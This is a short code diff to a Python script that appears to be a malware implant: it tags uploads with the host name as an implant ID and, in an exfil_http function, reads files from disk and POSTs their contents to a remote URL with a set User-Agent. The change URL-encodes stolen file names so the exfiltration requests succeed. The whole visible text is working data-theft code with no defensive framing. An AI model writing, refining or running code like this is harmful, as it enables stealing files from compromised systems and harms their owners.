@@ -15,6 +15,7 @@ import socket
 import sys
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 
 IMPLANT_ID = socket.gethostname()
@@ -66,7 +67,8 @@ def exfil_http(url, paths):
     for path in paths:
         with open(path, "rb") as fh:
             data = fh.read()
-        fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={os.path.basename(path)}", data=data,
+        name = urllib.parse.quote(os.path.basename(path))
+        fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={name}", data=data,
                                      method="POST", headers={"Content-Type": "application/octet-stream",
                                                              "User-Agent": USER_AGENT}))
 
